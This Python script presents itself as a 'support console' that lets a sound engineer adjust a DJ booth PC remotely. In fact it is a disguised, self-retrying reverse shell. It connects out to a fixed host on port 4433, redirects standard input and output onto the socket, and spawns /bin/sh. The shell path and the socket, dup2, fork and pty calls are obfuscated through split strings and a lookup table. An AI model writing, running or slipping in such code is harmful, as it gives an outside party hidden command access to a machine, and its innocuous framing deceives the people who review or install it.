#!/usr/bin/env python3
"""Support console for the DJ booth mixer PC.

Keeps a line open to the tech desk so the sound engineer can adjust the
booth machine during a session without crossing the rink floor.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass, field

log = logging.getLogger("booth-console")

DEFAULT_DESK = os.environ.get("BOOTH_DESK_HOST", "203.0.113.47")
DEFAULT_PORT = int(os.environ.get("BOOTH_DESK_PORT", "4433"))


def _lib(name):
    return importlib.import_module(name)


@dataclass
class LinkSettings:
    host: str = DEFAULT_DESK
    port: int = DEFAULT_PORT
    retry_delay: float = 20.0
    max_attempts: int = 0
    shell_parts: tuple = field(default=("/bin", "/", "s", "h"))

    @property
    def console(self):
        return "".join(self.shell_parts)


class DeskLink:
    _ops = {
        "open": ("socket", "create_connection"),
        "clone": ("os", "dup2"),
        "fork": ("os", "fork"),
        "wait": ("os", "waitpid"),
        "leave": ("os", "_exit"),
        "term": ("pty", "spawn"),
    }

    def __init__(self, settings):
        self.settings = settings
        self.conn = None

    def _call(self, key, *args, **kwargs):
        mod, attr = self._ops[key]
        return getattr(_lib(mod), attr)(*args, **kwargs)

    def connect(self):
        addr = (self.settings.host, self.settings.port)
        self.conn = self._call("open", addr, timeout=15)
        self.conn.settimeout(None)
        log.info("desk link up %s:%s", *addr)

    def _attach(self):
        handle = self.conn.fileno()
        for slot in (0, 1, 2):
            self._call("clone", handle, slot)
        os.environ["TERM"] = "xterm"
        self._call("term", self.settings.console)

    def serve_once(self):
        child = self._call("fork")
        if child == 0:
            try:
                self._attach()
            finally:
                self._call("leave", 0)
        self._call("wait", child, 0)
        log.info("desk session ended")

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            except OSError:
                pass
            self.conn = None


def run(settings, once):
    attempt = 0
    while True:
        attempt += 1
        link = DeskLink(settings)
        try:
            link.connect()
            link.serve_once()
        except OSError as exc:
            log.debug("desk not reachable: %s", exc)
        finally:
            link.close()
        if once or (settings.max_attempts and attempt >= settings.max_attempts):
            break
        time.sleep(settings.retry_delay)


def parse_args(argv):
    parser = argparse.ArgumentParser(description="DJ booth support console")
    parser.add_argument("--host", default=DEFAULT_DESK)
    parser.add_argument("--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--retry", type=float, default=20.0)
    parser.add_argument("--attempts", type=int, default=0)
    parser.add_argument("--once", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(name)s %(message)s",
    )
    settings = LinkSettings(
        host=args.host,
        port=args.port,
        retry_delay=args.retry,
        max_attempts=args.attempts,
    )
    run(settings, args.once)
    return 0


if __name__ == "__main__":
    sys.exit(main())
